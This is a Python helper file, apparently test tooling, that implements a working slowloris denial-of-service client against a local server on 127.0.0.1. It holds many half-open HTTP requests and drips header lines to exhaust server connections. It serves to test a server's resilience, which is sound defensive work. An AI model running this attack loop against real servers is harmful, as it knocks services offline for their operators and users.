"""A slowloris client, run as its own process by test_slowloris.py: it keeps `connections`
half-open requests to 127.0.0.1:`port` for `seconds`, then stops by itself.

As the classic tool does: each connection sends the start of a request head and then one more
header line every ROUND_S seconds, never the blank line that ends the head; every round, the
connections the server closed are opened again. It prints one JSON line of what it saw.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import sys
import time

ROUND_S = 5.0


async def attack(port: int, connections: int, seconds: float) -> dict[str, int]:
    writers: list[asyncio.StreamWriter | None] = [None] * connections
    opened = refused = 0
    watchers: set[asyncio.Future[None]] = set()
    deadline = time.monotonic() + seconds

    async def open_one(slot: int) -> None:
        nonlocal opened, refused
        try:
            _reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), ROUND_S
            )
            writer.write(f"GET /?{slot} HTTP/1.1\r\nHost: agent\r\nUser-Agent: slow\r\n".encode())
            writers[slot] = writer
            opened += 1
        except (OSError, asyncio.TimeoutError):
            refused += 1
            return
        watchers.add(asyncio.ensure_future(until_closed(slot, _reader, writer)))

    async def until_closed(
        slot: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        with contextlib.suppress(OSError):
            await reader.read()  # the server says nothing back, then closes
        writer.close()
        if writers[slot] is writer:
            writers[slot] = None

    while time.monotonic() < deadline:
        reopen = []
        for slot, writer in enumerate(writers):
            if writer is None or writer.is_closing():
                reopen.append(slot)
                continue
            try:
                writer.write(b"X-a: b\r\n")
            except (OSError, RuntimeError):
                reopen.append(slot)
        await asyncio.gather(*(open_one(slot) for slot in reopen))
        await asyncio.sleep(max(0.0, min(ROUND_S, deadline - time.monotonic())))
    for writer in writers:
        if writer is not None:
            writer.close()
    for watcher in watchers:
        watcher.cancel()
    return {"opened": opened, "refused": refused}


def main() -> None:
    port, connections, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, connections + 256), hard))
    print(json.dumps(asyncio.run(attack(port, connections, seconds))), flush=True)


if __name__ == "__main__":
    main()
